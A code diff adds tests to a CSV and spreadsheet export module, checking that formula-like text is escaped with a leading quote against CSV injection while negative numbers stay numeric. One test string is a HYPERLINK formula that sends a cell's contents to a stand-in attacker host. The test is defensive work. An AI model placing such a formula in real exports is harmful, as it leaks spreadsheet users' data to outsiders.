@@ -6,6 +6,7 @@ import { describe, expect, it } from 'vitest';
 import type { ExportFormat } from '@workspace/shared/common/list-shape';
 import type { Language } from '@workspace/shared/common/limits';
 import { dateCell, dateTimeCell, decimalCell, moneyCell, sendExport, type ExportColumn } from './export';
+import { parseCsv } from '../../test/csv-text';
 
 /*
  * Exports people can open: a CSV in the reader's convention, a spreadsheet with typed cells, a
@@ -26,7 +27,12 @@ async function* rowsOf(count: number): AsyncGenerator<Row> {
   for (let n = 0; n < count; n += 1) yield { n };
 }
 
-async function run(format: ExportFormat, language: Language, count = 3): Promise<{ bytes: Buffer; headers: Record<string, string> }> {
+async function run<T = Row>(
+  format: ExportFormat,
+  language: Language,
+  count = 3,
+  table: { columns: ExportColumn<T>[]; rows: (count: number) => AsyncIterable<T> } = { columns, rows: rowsOf } as never,
+): Promise<{ bytes: Buffer; headers: Record<string, string> }> {
   const headers: Record<string, string> = {};
   const chunks: Buffer[] = [];
   return new Promise((resolve, reject) => {
@@ -50,7 +56,14 @@ async function run(format: ExportFormat, language: Language, count = 3): Promise
         return reply;
       },
     } as unknown as FastifyReply;
-    sendExport(reply, { format, filename: 'list', title: 'Transactions', columns, rows: rowsOf(count), reader: { language, timeZone: 'Europe/Istanbul' } });
+    sendExport(reply, {
+      format,
+      filename: 'list',
+      title: 'Transactions',
+      columns: table.columns,
+      rows: table.rows(count),
+      reader: { language, timeZone: 'Europe/Istanbul' },
+    });
   });
 }
 
@@ -67,6 +80,57 @@ describe('CSV', () => {
     const lines = (await run('csv', 'tr')).bytes.toString('utf8').slice(1).trim().split(/\r?\n/);
     expect(lines[0]).toBe('Date;Recorded at;Amount;Estimated hours;Tasks;Description of the transaction');
     expect(lines[2]).toBe('2026-03-31;2026-04-01 00:30;1251,75;7,50;1;"Line 1; with a semicolon, and a comma"');
+  });
+});
+
+describe('formulas', () => {
+  // Text a spreadsheet would run as a formula (OWASP "CSV injection"), and typed negative numbers that must stay numbers.
+  const texts = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', '+1+2', '-2+3', '@SUM(A1:A2)', '\tTab', '\rReturn', 'Plain', "'Quoted"];
+  const formulaColumns: ExportColumn<string>[] = [
+    { header: 'Text', value: (text) => text },
+    { header: 'Amount', value: () => moneyCell('-1250.75', 'TL') },
+    { header: 'Count', value: () => -3 },
+    { header: 'Hours', value: () => decimalCell('-7.50') },
+  ];
+  const table = {
+    columns: formulaColumns,
+    rows: async function* () {
+      yield* texts;
+    },
+  };
+  const parse = async (language: Language) => {
+    const text = (await run('csv', language, texts.length, table)).bytes.toString('utf8').slice(1);
+    return parseCsv(text, language === 'tr' ? ';' : ',');
+  };
+
+  it('starts every text cell that a spreadsheet would read as a formula with a quote, in both languages', async () => {
+    for (const language of ['en', 'tr'] as const) {
+      const rows = (await parse(language)).slice(1);
+      expect(rows.map((row) => row[0])).toEqual([
+        `'=HYPERLINK("http://evil.example/?"&A1,"Click")`,
+        "'+1+2",
+        "'-2+3",
+        "'@SUM(A1:A2)",
+        "'\tTab",
+        "'\rReturn",
+        'Plain',
+        "'Quoted",
+      ]);
+    }
+  });
+
+  it('leaves typed negative amounts, counts and decimals as numbers', async () => {
+    expect((await parse('en'))[1]!.slice(1)).toEqual(['-1250.75', '-3', '-7.50']);
+    expect((await parse('tr'))[1]!.slice(1)).toEqual(['-1250,75', '-3', '-7,50']);
+  });
+
+  it('writes the same text in a spreadsheet as a text cell, never a formula', async () => {
+    const workbook = new ExcelJS.Workbook();
+    await workbook.xlsx.load((await run('xlsx', 'en', texts.length, table)).bytes as unknown as ArrayBuffer);
+    const cell = workbook.worksheets[0]!.getRow(2).getCell(1);
+    expect(cell.type).toBe(ExcelJS.ValueType.String);
+    expect(cell.value).toBe(texts[0]);
+    expect(workbook.worksheets[0]!.getRow(2).getCell(2).value).toBe(-1250.75);
   });
 });
 
